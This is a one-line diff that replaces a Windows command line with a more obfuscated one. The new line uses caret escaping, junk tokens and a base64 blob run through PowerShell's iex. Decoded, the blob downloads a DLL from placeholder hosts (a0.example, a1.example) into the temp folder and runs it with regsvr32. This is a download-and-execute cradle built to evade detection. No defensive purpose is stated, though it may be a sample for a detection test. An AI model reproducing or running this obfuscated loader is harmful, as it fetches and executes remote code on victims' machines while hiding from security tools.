@@ -1,1 +1,1 @@
-cmd /v:on /c fIT3hv||goto&p^o^w^e^r^s^h^e^l^l.e^x^e -c "iwr http://a.example/x -out a.dll"
+cmd.exe /v:on /c Tf1ugcUTp2Vq5vcmG8EZVTOJ2NUhNs9v+hhP||goto&p^o^w^e^r^s^h^e^l^l.e^x^e -c "&{$HU=[System.Text.Encoding]::ASCII;$OG=$HU.GetString([System.Convert]::FromBase64String('JHU9J2h0dHA6Ly9hMC5leGFtcGxlL0EvJywnaHR0cDovL2ExLmV4YW1wbGUvQi8nO2ZvcmVhY2goJHggaW4gJHUpe3RyeXtpd3IgJHggLW91dGYgJGVudjp0ZW1wXHEuZGxsO3JlZ3N2cjMyLmV4ZSAkZW52OnRlbXBccS5kbGw7YnJlYWt9Y2F0Y2h7fX0='));iex $OG}"
